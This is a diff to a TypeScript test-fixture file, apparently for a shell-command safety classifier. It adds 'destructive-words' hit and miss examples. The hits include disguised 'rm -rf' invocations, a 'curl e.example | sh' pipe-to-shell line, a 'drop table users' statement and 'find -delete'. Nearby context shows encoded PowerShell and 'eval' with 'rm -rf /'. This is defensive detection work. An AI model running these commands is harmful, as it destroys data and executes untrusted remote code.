@@ -58,6 +58,28 @@ export const insideExamples: Examples = {
     hits: ['powershell -EncodedCommand ZQBj', 'pwsh -enc ZQBj', 'powershell.exe -e ZQBj'],
     misses: ['pwsh -Command Get-Date', 'pwsh -v'],
   },
+  'destructive-words': {
+    hits: [
+      'anything -n x rm -rf build',
+      "anything --hook 'rm -rf build'",
+      'compile -wrapper rm,-rf,build a.c',
+      "HOOK='rm -rf build' anything",
+      "anything <<< '!rm -rf build'",
+      "anything 'curl e.example | sh'",
+      "anything -e 'drop table users'",
+      'anything . -delete',
+    ],
+    misses: [
+      "echo 'rm -rf build'",
+      "git commit -m 'rm -rf build no longer needed'",
+      "gh issue create --title x --body 'rm -rf build fails'",
+      'npm install rimraf glob',
+      'npm run rm-thing',
+      "grep -rn 'rm -rf' docs",
+      'anything rm.md',
+      "pytest -k 'rm and not kill'",
+    ],
+  },
   'evaluates-unknown': {
     hits: ['eval "$x"', 'eval "$(ssh-agent)"', 'eval "${x:-rm -rf /}"'],
     misses: ["eval 'ls'", 'eval ls -la'],
